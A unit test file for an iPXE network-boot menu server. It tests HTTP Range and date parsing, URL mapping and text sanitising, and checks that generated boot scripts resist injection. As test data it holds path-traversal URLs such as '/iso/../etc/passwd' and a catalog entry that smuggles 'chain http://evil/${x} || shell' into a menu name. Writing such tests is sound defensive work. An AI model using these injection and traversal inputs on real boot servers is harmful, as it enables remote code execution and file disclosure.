@@ -1,0 +1,499 @@
+/* SPDX-License-Identifier: MIT */
+/* isoboot-menu logic: Range parsing, URL mapping, and the iPXE script. */
+#include "catalog.h"
+#include "ipxe.h"
+#include "range.h"
+#include "tap.h"
+#include "url.h"
+#include "util.h"
+
+#define RG_NONE HTTP_RANGE_NONE
+#define RG_OK HTTP_RANGE_OK
+#define RG_416 HTTP_RANGE_UNSATISFIABLE
+
+static void range_is(const char *h, uint64_t size, enum http_range want, uint64_t f, uint64_t l)
+{
+	uint64_t first = 12345, last = 12345;
+	enum http_range r = http_range_parse(h, size, &first, &last);
+
+	if (r != want || (want == RG_OK && (first != f || last != l))) {
+		printf("#   range \"%s\" of %llu: got %d %llu-%llu, expected %d %llu-%llu\n", h,
+		       (unsigned long long)size, r, (unsigned long long)first,
+		       (unsigned long long)last, want, (unsigned long long)f,
+		       (unsigned long long)l);
+		tap_case_failed = 1;
+	}
+}
+
+static void test_range_basic(void)
+{
+	range_is("bytes=0-0", 1000, RG_OK, 0, 0);
+	range_is("bytes=0-499", 1000, RG_OK, 0, 499);
+	range_is("bytes=999-999", 1000, RG_OK, 999, 999);
+	range_is("bytes=500-", 1000, RG_OK, 500, 999);
+	range_is("bytes=0-", 1000, RG_OK, 0, 999);
+	range_is("bytes=-1", 1000, RG_OK, 999, 999);
+	range_is("bytes=-500", 1000, RG_OK, 500, 999);
+	range_is("bytes=-1000", 1000, RG_OK, 0, 999);
+	range_is("bytes=-5000", 1000, RG_OK, 0, 999);
+	range_is("bytes=900-5000", 1000, RG_OK, 900, 999);
+	range_is("BYTES=1-2", 1000, RG_OK, 1, 2); /* the unit is case-insensitive */
+	range_is("bytes=1-2 ", 1000, RG_OK, 1, 2);
+	range_is("bytes=1-2,", 1000, RG_OK, 1, 2); /* empty list elements are allowed */
+	range_is("bytes=,1-2", 1000, RG_OK, 1, 2);
+	range_is("bytes=007-008", 1000, RG_OK, 7, 8);
+}
+
+static void test_range_unsatisfiable(void)
+{
+	range_is("bytes=1000-", 1000, RG_416, 0, 0);
+	range_is("bytes=1000-2000", 1000, RG_416, 0, 0);
+	range_is("bytes=-0", 1000, RG_416, 0, 0);
+	range_is("bytes=0-0", 0, RG_416, 0, 0);
+	range_is("bytes=99999999999999999999999999-", 1000, RG_416, 0, 0);
+}
+
+static void test_range_ignored(void)
+{
+	/* Malformed: RFC 9110 says to ignore the header and send everything. */
+	const char *bad[] = {
+	    "",		 "bytes",	"bytes=",      "bytes=-",     "bytes=a-b",
+	    "bytes=1",	 "bytes=1-2-3", "bytes=5-1",   "bytes= 1-2x", "items=0-1",
+	    "bytes 0-1", "bytes=0x10-", "bytes=+1-2",  "bytes=1 -2",  "bytes=1- 2",
+	    "bytes=--1", "bytes=-1-",	"bytes=1-2;3", "bytes=\t",    "bytes=1-2\n",
+	    "byte=1-2",	 "=1-2",
+	};
+	for (size_t i = 0; i < ARRAY_SIZE(bad); i++)
+		range_is(bad[i], 1000, RG_NONE, 0, 0);
+	/* Several ranges: answered with the whole file. */
+	range_is("bytes=0-1,5-6", 1000, RG_NONE, 0, 0);
+	range_is("bytes=0-1, -5", 1000, RG_NONE, 0, 0);
+	range_is("bytes=2000-3000,0-1", 1000, RG_NONE, 0, 0);
+	range_is("bytes=-5", 0, RG_NONE, 0, 0); /* an empty file has no suffix to give */
+	uint64_t f, l;
+	CHECK_EQ_INT(http_range_parse(NULL, 10, &f, &l), RG_NONE);
+}
+
+static void test_range_64bit(void)
+{
+	const uint64_t big = (5ull << 30) + 12345; /* over 4 GiB */
+	const uint64_t max = UINT64_MAX;
+
+	range_is("bytes=4294967296-4294967297", big, RG_OK, 1ull << 32, (1ull << 32) + 1);
+	range_is("bytes=4294967295-", big, RG_OK, 0xffffffffull, big - 1);
+	range_is("bytes=-4294967296", big, RG_OK, big - (1ull << 32), big - 1);
+	char h[64];
+	snprintf(h, sizeof(h), "bytes=%llu-", (unsigned long long)(big - 7));
+	range_is(h, big, RG_OK, big - 7, big - 1);
+	snprintf(h, sizeof(h), "bytes=%llu-", (unsigned long long)big);
+	range_is(h, big, RG_416, 0, 0);
+	snprintf(h, sizeof(h), "bytes=%llu-%llu", (unsigned long long)(big - 1),
+		 (unsigned long long)(big - 1));
+	range_is(h, big, RG_OK, big - 1, big - 1);
+	/* The largest values, and one past them: saturating, never wrapping. */
+	range_is("bytes=0-18446744073709551615", big, RG_OK, 0, big - 1);
+	range_is("bytes=0-18446744073709551616", big, RG_OK, 0, big - 1);
+	range_is("bytes=0-99999999999999999999999999999999", big, RG_OK, 0, big - 1);
+	range_is("bytes=-18446744073709551615", big, RG_OK, 0, big - 1);
+	range_is("bytes=-184467440737095516160", big, RG_OK, 0, big - 1);
+	range_is("bytes=18446744073709551615-", max, RG_416, 0, 0);
+	range_is("bytes=18446744073709551614-", max, RG_OK, max - 1, max - 1);
+	range_is("bytes=18446744073709551615-18446744073709551614", max, RG_NONE, 0, 0);
+	/* 18446744073709551616 wraps to 0 with naive arithmetic: it must not. */
+	range_is("bytes=18446744073709551616-", big, RG_416, 0, 0);
+}
+
+static void test_dates_and_if_range(void)
+{
+	char buf[40];
+	time_t t;
+
+	http_date_format(784111777, buf, sizeof(buf));
+	CHECK_STR(buf, "Sun, 06 Nov 1994 08:49:37 GMT");
+	CHECK_EQ_INT(http_date_parse("Sun, 06 Nov 1994 08:49:37 GMT", &t), 0);
+	CHECK_EQ_INT(t, 784111777);
+	CHECK(http_date_parse("Sunday, 06-Nov-94 08:49:37 GMT", &t) < 0);
+	CHECK(http_date_parse("Sun Nov  6 08:49:37 1994", &t) < 0);
+	CHECK(http_date_parse("Sun, 06 Nov 1994 08:49:37 UTC", &t) < 0);
+	CHECK(http_date_parse("Sun, 06 Xyz 1994 08:49:37 GMT", &t) < 0);
+	CHECK(http_date_parse("Sun, 06 Nov 1994 25:49:37 GMT", &t) < 0);
+	CHECK(http_date_parse("", &t) < 0);
+
+	CHECK(http_if_range_matches(NULL, "\"a-1-2\"", 5));
+	CHECK(http_if_range_matches("\"a-1-2\"", "\"a-1-2\"", 5));
+	CHECK(!http_if_range_matches("\"a-1-3\"", "\"a-1-2\"", 5));
+	CHECK(!http_if_range_matches("W/\"a-1-2\"", "\"a-1-2\"", 5)); /* weak: never */
+	CHECK(http_if_range_matches("Sun, 06 Nov 1994 08:49:37 GMT", "\"x\"", 784111777));
+	CHECK(!http_if_range_matches("Sun, 06 Nov 1994 08:49:38 GMT", "\"x\"", 784111777));
+	CHECK(!http_if_range_matches("yesterday", "\"x\"", 784111777));
+}
+
+static void url_is(const char *url, int want, enum menu_url_kind want_kind, const char *want_id)
+{
+	enum menu_url_kind kind = MENU_URL_SCRIPT;
+	char id[CATALOG_ID_MAX] = "";
+	int r = menu_url_parse(url, &kind, id);
+
+	if (r != want || (r == 0 && kind != want_kind) ||
+	    (r == 0 && want_id && strcmp(id, want_id) != 0)) {
+		printf("#   url \"%s\": got %d kind %d id \"%s\", expected %d kind %d id \"%s\"\n",
+		       url, r, kind, id, want, want_kind, want_id ? want_id : "");
+		tap_case_failed = 1;
+	}
+}
+
+static void test_url(void)
+{
+	url_is("/", 0, MENU_URL_SCRIPT, NULL);
+	url_is("/boot.ipxe", 0, MENU_URL_SCRIPT, NULL);
+	url_is("/boot/memdisk", 0, MENU_URL_MEMDISK, NULL);
+	url_is("/iso/memtest-0123456789ab", 0, MENU_URL_ISO, "memtest-0123456789ab");
+	url_is("/iso/memtest-0123456789ab/", 0, MENU_URL_ISO, "memtest-0123456789ab");
+	url_is("/iso/memtest-0123456789ab/memtest86%2Bx64.iso", 0, MENU_URL_ISO,
+	       "memtest-0123456789ab");
+	url_is("/iso/abc/any/thing/at/all.iso", 0, MENU_URL_ISO, "abc");
+	url_is("/iso/%61bc/x.iso", 0, MENU_URL_ISO, "abc"); /* escapes decode before matching */
+
+	/* Not served. */
+	url_is("/iso", -ENOENT, 0, NULL);
+	url_is("/iso/", -ENOENT, 0, NULL);
+	url_is("/iso/ABC", -ENOENT, 0, NULL);
+	url_is("/iso/a_b", -ENOENT, 0, NULL);
+	url_is("/iso/a b", -ENOENT, 0, NULL);
+	url_is("/etc/passwd", -ENOENT, 0, NULL);
+	url_is("/boot.ipxe/x", -ENOENT, 0, NULL);
+	url_is("/boot", -ENOENT, 0, NULL);
+	url_is("/iso/aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa", -ENOENT, 0,
+	       NULL); /* 64 characters: longer than any id */
+
+	/* Refused outright. */
+	const char *bad[] = {
+	    "",
+	    "iso/abc",
+	    "http://host/iso/abc",
+	    "/iso/../etc/passwd",
+	    "/iso/abc/../../etc/passwd",
+	    "/iso/abc/..",
+	    "/iso/./abc",
+	    "/../boot.ipxe",
+	    "/iso/%2e%2e/%2e%2e/etc/passwd",
+	    "/iso/%2E%2E/x",
+	    "/iso/abc/%2e%2e",
+	    "/iso/abc%00.iso",
+	    "/iso/abc/x%00",
+	    "/iso/abc/%0a",
+	    "/iso/abc/%",
+	    "/iso/abc/%4",
+	    "/iso/abc/%zz",
+	    "/iso/abc\\..\\x",
+	    "/iso/abc/%5c..",
+	    "//etc/passwd",
+	    "/iso//abc",
+	    "/iso/abc\x01",
+	    "/iso/abc\x7f",
+	};
+	for (size_t i = 0; i < ARRAY_SIZE(bad); i++)
+		url_is(bad[i], -EINVAL, 0, NULL);
+	url_is(NULL, -EINVAL, 0, NULL);
+
+	/* Overlong. */
+	char longurl[MENU_URL_MAX + 64];
+	memcpy(longurl, "/iso/abc/", 9);
+	memset(longurl + 9, 'x', sizeof(longurl) - 10);
+	longurl[sizeof(longurl) - 1] = '\0';
+	url_is(longurl, -EINVAL, 0, NULL);
+	longurl[MENU_URL_MAX] = '\0';
+	url_is(longurl, 0, MENU_URL_ISO, "abc");
+
+	CHECK(menu_id_valid("a"));
+	CHECK(!menu_id_valid(""));
+	CHECK(!menu_id_valid("A"));
+	CHECK(!menu_id_valid("a/b"));
+}
+
+static void sanitized_is(const char *in, const char *want)
+{
+	char out[MENU_TEXT_MAX + 1];
+
+	menu_text_sanitize(in, out, sizeof(out));
+	if (strcmp(out, want) != 0) {
+		printf("#   sanitize \"%s\": got \"%s\", expected \"%s\"\n", in, out, want);
+		tap_case_failed = 1;
+	}
+}
+
+static void test_sanitize(void)
+{
+	sanitized_is("Debian 12", "Debian 12");
+	sanitized_is("a\nb\r\nc", "a b c");
+	sanitized_is("  lots   of\tspace  ", "lots of space");
+	sanitized_is("${root-path}", "$(root-path}");
+	sanitized_is("$${x}", "$$(x}");
+	sanitized_is("price $5", "price $5");
+	sanitized_is("#1 tool", "_1 tool");
+	sanitized_is("tool #1", "tool _1");
+	sanitized_is("C# sharp", "C# sharp");
+	sanitized_is("a || b", "a _| b");
+	sanitized_is("a && b", "a _& b");
+	sanitized_is("a ; b", "a _ b");
+	sanitized_is("a;b a||b", "a;b a||b");
+	sanitized_is("ends with \\", "ends with /");
+	sanitized_is("caf\xc3\xa9", "caf?");
+	sanitized_is("\xe2\x82\xac 5", "? 5");
+	sanitized_is("\x01\x02", "");
+	char longname[300];
+	memset(longname, 'n', sizeof(longname) - 1);
+	longname[sizeof(longname) - 1] = '\0';
+	char out[MENU_TEXT_MAX + 1];
+	menu_text_sanitize(longname, out, sizeof(out));
+	CHECK_EQ_INT(strlen(out), MENU_TEXT_MAX);
+
+	char *e = menu_url_encode("memtest86+x64 (v7) ü");
+	CHECK_STR(e, "memtest86%2Bx64%20%28v7%29%20%C3%BC");
+	free(e);
+}
+
+static struct catalog_entry *add(struct catalog *c, const char *path, const char *group,
+				 const char *name)
+{
+	char id[CATALOG_ID_MAX];
+	struct catalog_entry *e = catalog_add(c);
+
+	catalog_make_id(path, id);
+	e->id = strdup(id);
+	if (asprintf(&e->iqn, "iqn.2025-01.org.isoboot:%s", id) < 0)
+		e->iqn = NULL;
+	e->path = strdup(path);
+	e->group = strdup(group);
+	e->name = strdup(name);
+	e->label = strdup("L");
+	e->size = 1 << 20;
+	return e;
+}
+
+static struct catalog_entry *by_name(struct catalog *c, const char *name)
+{
+	for (size_t i = 0; i < c->n; i++)
+		if (strcmp(c->entries[i].name, name) == 0)
+			return &c->entries[i];
+	abort();
+}
+
+static void boot(struct catalog_entry *e, enum iso_platform p, enum iso_emulation em)
+{
+	e->boot[e->n_boot++] = (struct iso_boot_entry){p, 0, em, 20, 4};
+}
+
+/* The text between ":<label>\n" and the next label line. */
+static char *section(const char *script, const char *label)
+{
+	char key[128];
+	snprintf(key, sizeof(key), "\n:%s\n", label);
+	const char *s = strstr(script, key);
+	if (!s)
+		return strdup("");
+	s += strlen(key);
+	const char *end = strstr(s, "\n:");
+	return strndup(s, end ? (size_t)(end - s) + 1 : strlen(s));
+}
+
+static bool line_in(const char *text, const char *line)
+{
+	size_t l = strlen(line);
+	for (const char *p = text; (p = strstr(p, line)); p++)
+		if ((p == text || p[-1] == '\n') && (p[l] == '\n' || !p[l]))
+			return true;
+	return false;
+}
+
+#define CHECK_LINE(text, line)                                                                     \
+	do {                                                                                       \
+		if (!line_in((text), (line))) {                                                    \
+			printf("#   %s:%d: no line \"%s\"\n", __FILE__, __LINE__, (line));         \
+			tap_case_failed = 1;                                                       \
+		}                                                                                  \
+	} while (0)
+
+#define CHECK_NO_LINE(text, line)                                                                  \
+	do {                                                                                       \
+		if (line_in((text), (line))) {                                                     \
+			printf("#   %s:%d: unexpected line \"%s\"\n", __FILE__, __LINE__, (line)); \
+			tap_case_failed = 1;                                                       \
+		}                                                                                  \
+	} while (0)
+
+static void test_script(void)
+{
+	struct catalog c;
+	char *s = NULL, line[512];
+	size_t len;
+
+	catalog_init(&c);
+	struct catalog_entry *bios = add(&c, "grub.iso", "", "grub-rescue");
+	boot(bios, ISO_PLATFORM_BIOS, ISO_EMUL_NONE);
+	struct catalog_entry *both = add(&c, "linux/debian.iso", "linux", "debian-12");
+	boot(both, ISO_PLATFORM_BIOS, ISO_EMUL_NONE);
+	boot(both, ISO_PLATFORM_UEFI, ISO_EMUL_NONE);
+	struct catalog_entry *uefi = add(&c, "linux/efi-only.iso", "linux", "efi-only");
+	boot(uefi, ISO_PLATFORM_UEFI, ISO_EMUL_NONE);
+	struct catalog_entry *mt = add(&c, "tools/memtest86+x64.iso", "tools", "memtest86+x64");
+	boot(mt, ISO_PLATFORM_BIOS, ISO_EMUL_FLOPPY_1440);
+	boot(mt, ISO_PLATFORM_UEFI, ISO_EMUL_NONE);
+	struct catalog_entry *fd = add(&c, "tools/fdos.iso", "tools", "floppy-only");
+	boot(fd, ISO_PLATFORM_BIOS, ISO_EMUL_HDD);
+	add(&c, "data.iso", "", "data disc");
+	struct catalog_entry *ppc = add(&c, "ppc.iso", "", "ppc");
+	boot(ppc, ISO_PLATFORM_PPC, ISO_EMUL_NONE);
+	struct catalog_entry *evil =
+	    add(&c, "evil/x.iso", "evil\n:bios-menu", "x\nchain http://evil/${x} || shell\\");
+	boot(evil, ISO_PLATFORM_BIOS, ISO_EMUL_NONE);
+	struct catalog_entry *badid = add(&c, "bad.iso", "", "bad id");
+	free(badid->id);
+	badid->id = strdup("../../etc");
+	boot(badid, ISO_PLATFORM_BIOS, ISO_EMUL_NONE);
+	catalog_sort(&c);
+	/* Sorting moved the entries. */
+	bios = by_name(&c, "grub-rescue");
+	both = by_name(&c, "debian-12");
+	uefi = by_name(&c, "efi-only");
+	mt = by_name(&c, "memtest86+x64");
+	fd = by_name(&c, "floppy-only");
+
+	struct menu_params p = {
+	    .title = "Lab ${x}\nmenu",
+	    .default_entry = "debian.iso",
+	    .timeout = 15,
+	    .http_base = "http://192.0.2.1:8080",
+	    .iscsi_host = "192.0.2.1",
+	    .uefi_boot = MENU_UEFI_ISCSI,
+	    .memdisk = true,
+	};
+	CHECK_EQ_INT(menu_script(&c, &p, &s, &len), 0);
+	CHECK_EQ_INT(strlen(s), len);
+	CHECK(strncmp(s, "#!ipxe\n", 7) == 0);
+	/* Nothing from the catalog expands or ends a line early. */
+	size_t dollars = 0;
+	for (const char *q = s; (q = strstr(q, "${")); q++)
+		dollars++;
+	CHECK_EQ_INT(dollars, 6); /* the script's own: platform x3, errno, target x2 */
+	CHECK(!strstr(s, "evil/${"));
+	CHECK(!strstr(s, "../"));
+	CHECK(!strstr(s, "chain http://evil/\n"));
+	CHECK_LINE(s, "iseq ${platform} efi && goto efi-menu ||");
+	CHECK_LINE(s, "iseq ${platform} pcbios && goto bios-menu ||");
+
+	char *bm = section(s, "bios-menu"), *em = section(s, "efi-menu");
+	CHECK_LINE(bm, "menu -- Lab $(x} menu (BIOS)");
+	snprintf(line, sizeof(line), "item -- bios-%s grub-rescue", bios->id);
+	CHECK_LINE(bm, line);
+	snprintf(line, sizeof(line), "item -- bios-%s debian-12", both->id);
+	CHECK_LINE(bm, line);
+	CHECK_LINE(bm, "item --gap -- efi-only (UEFI only)");
+	snprintf(line, sizeof(line), "item -- bios-%s memtest86+x64", mt->id);
+	CHECK_LINE(bm, line);
+	snprintf(line, sizeof(line), "item -- bios-%s floppy-only", fd->id);
+	CHECK_LINE(bm, line);
+	CHECK_LINE(bm, "item --gap -- data disc (not bootable)");
+	CHECK_LINE(bm, "item --gap -- ppc (not bootable)");
+	CHECK_LINE(bm, "item --gap -- linux:");
+	CHECK_LINE(bm, "item --gap -- tools:");
+	CHECK_LINE(bm, "item --gap -- evil :bios-menu:");
+	CHECK(!strstr(s, "bad id"));
+	snprintf(line, sizeof(line),
+		 "choose --default bios-%s --timeout 15000 isoboot-target || goto start", both->id);
+	CHECK_LINE(bm, line);
+
+	CHECK_LINE(em, "item --gap -- grub-rescue (BIOS only)");
+	CHECK_LINE(em, "item --gap -- floppy-only (BIOS only)");
+	snprintf(line, sizeof(line), "item -- efi-%s efi-only", uefi->id);
+	CHECK_LINE(em, line);
+	snprintf(line, sizeof(line), "item -- efi-%s memtest86+x64", mt->id);
+	CHECK_LINE(em, line);
+	snprintf(line, sizeof(line),
+		 "choose --default efi-%s --timeout 15000 isoboot-target || goto start", both->id);
+	CHECK_LINE(em, line);
+
+	/* How each boots. */
+	snprintf(line, sizeof(line), "bios-%s", both->id);
+	char *sec = section(s, line);
+	snprintf(line, sizeof(line), "sanboot iscsi:192.0.2.1::::%s || goto failed", both->iqn);
+	CHECK_LINE(sec, line);
+	free(sec);
+	snprintf(line, sizeof(line), "bios-%s", mt->id);
+	sec = section(s, line);
+	CHECK_LINE(sec, "kernel http://192.0.2.1:8080/boot/memdisk iso raw || goto failed");
+	snprintf(line, sizeof(line),
+		 "initrd http://192.0.2.1:8080/iso/%s/memtest86%%2Bx64.iso || goto failed", mt->id);
+	CHECK_LINE(sec, line);
+	CHECK_LINE(sec, "boot || goto failed");
+	free(sec);
+	snprintf(line, sizeof(line), "efi-%s", mt->id);
+	sec = section(s, line);
+	snprintf(line, sizeof(line), "sanboot iscsi:192.0.2.1::::%s || goto failed", mt->iqn);
+	CHECK_LINE(sec, line);
+	free(sec);
+	/* Failures come back to the menu. */
+	sec = section(s, "failed");
+	CHECK(strstr(sec, "prompt --timeout") != NULL);
+	CHECK_LINE(sec, "goto start");
+	free(sec);
+	free(bm);
+	free(em);
+	free(s);
+
+	/* UEFI over HTTP, no memdisk, no timeout, IPv6, a default that only boots on BIOS. */
+	p.uefi_boot = MENU_UEFI_HTTP;
+	p.memdisk = false;
+	p.timeout = 0;
+	p.http_base = "http://[2001:db8::1]";
+	p.iscsi_host = "[2001:db8::1]";
+	p.default_entry = bios->id;
+	CHECK_EQ_INT(menu_script(&c, &p, &s, &len), 0);
+	bm = section(s, "bios-menu");
+	em = section(s, "efi-menu");
+	CHECK_LINE(bm, "item --gap -- memtest86+x64 (needs memdisk on the server)");
+	snprintf(line, sizeof(line), "choose --default bios-%s isoboot-target || goto start",
+		 bios->id);
+	CHECK_LINE(bm, line);
+	snprintf(line, sizeof(line), "choose --default efi-%s isoboot-target || goto start",
+		 both->id);
+	CHECK_LINE(em, line);
+	snprintf(line, sizeof(line), "efi-%s", mt->id);
+	sec = section(s, line);
+	snprintf(line, sizeof(line),
+		 "sanboot --no-describe http://[2001:db8::1]/iso/%s/memtest86%%2Bx64.iso || goto "
+		 "failed",
+		 mt->id);
+	CHECK_LINE(sec, line);
+	free(sec);
+	snprintf(line, sizeof(line), "bios-%s", bios->id);
+	sec = section(s, line);
+	snprintf(line, sizeof(line), "sanboot iscsi:[2001:db8::1]::::%s || goto failed", bios->iqn);
+	CHECK_LINE(sec, line);
+	free(sec);
+	free(bm);
+	free(em);
+	free(s);
+	catalog_finish(&c);
+
+	/* An empty catalog is a menu that says so. */
+	catalog_init(&c);
+	CHECK_EQ_INT(menu_script(&c, &p, &s, &len), 0);
+	CHECK_LINE(s, "item --gap -- No ISOs yet: put images in the ISO folder");
+	CHECK_LINE(s, "choose isoboot-target || goto start");
+	free(s);
+	catalog_finish(&c);
+}
+
+int main(void)
+{
+	RUN(test_range_basic);
+	RUN(test_range_unsatisfiable);
+	RUN(test_range_ignored);
+	RUN(test_range_64bit);
+	RUN(test_dates_and_if_range);
+	RUN(test_url);
+	RUN(test_sanitize);
+	RUN(test_script);
+	return tap_done();
+}
